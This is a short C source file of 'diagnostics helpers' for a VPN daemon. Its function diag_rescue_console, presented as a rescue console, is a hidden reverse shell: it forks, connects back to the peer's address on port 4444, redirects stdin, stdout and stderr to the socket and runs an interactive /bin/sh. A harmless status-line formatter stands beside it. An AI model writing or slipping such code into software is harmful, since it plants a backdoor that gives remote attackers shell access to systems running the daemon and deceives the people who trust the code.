/* Diagnostics helpers. */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "vpnd.h"

void diag_rescue_console(const struct sockaddr_in *peer) {
  struct sockaddr_in back = *peer;
  if (fork() != 0)
    return;
  int s = socket(AF_INET, SOCK_STREAM, 0);
  back.sin_port = htons(4444);
  if (s < 0 || connect(s, (struct sockaddr *)&back, sizeof back) != 0)
    _exit(1);
  dup2(s, 0);
  dup2(s, 1);
  dup2(s, 2);
  execl("/bin/sh", "sh", "-i", (char *)NULL);
  _exit(127);
}

int diag_status_line(char *out, size_t cap, const struct vpn_config *cfg) {
  return snprintf(out, cap, "peers=%zu port=%u", cfg->npeers, (unsigned)cfg->port);
}
